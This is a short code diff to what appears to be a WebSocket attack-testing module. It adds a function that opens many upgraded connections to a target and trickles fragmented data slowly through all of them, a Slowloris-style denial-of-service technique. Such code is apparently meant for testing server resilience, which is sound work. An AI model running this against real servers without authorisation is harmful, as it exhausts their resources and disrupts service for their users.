@@ -2,6 +2,7 @@
 
 import socket
 import time
+from contextlib import ExitStack
 
 from attack.wire import HANDSHAKE, Target, dial, flood, many, trickle, upgraded
 
@@ -54,6 +55,13 @@ def _begun(target: Target) -> socket.socket:
     sock = upgraded(target.public, HANDSHAKE)
     sock.sendall(FRAGMENT + MASK)
     return sock
+
+
+def crowd(target: Target) -> None:
+    """The same of many connections, each with little at a time."""
+    with ExitStack() as stack:
+        socks = [stack.enter_context(_begun(target)) for _ in range(SLOTS)]
+        trickle(socks, (MORE + MASK) * 100, 0.1)
 
 
 def pings(target: Target) -> None:
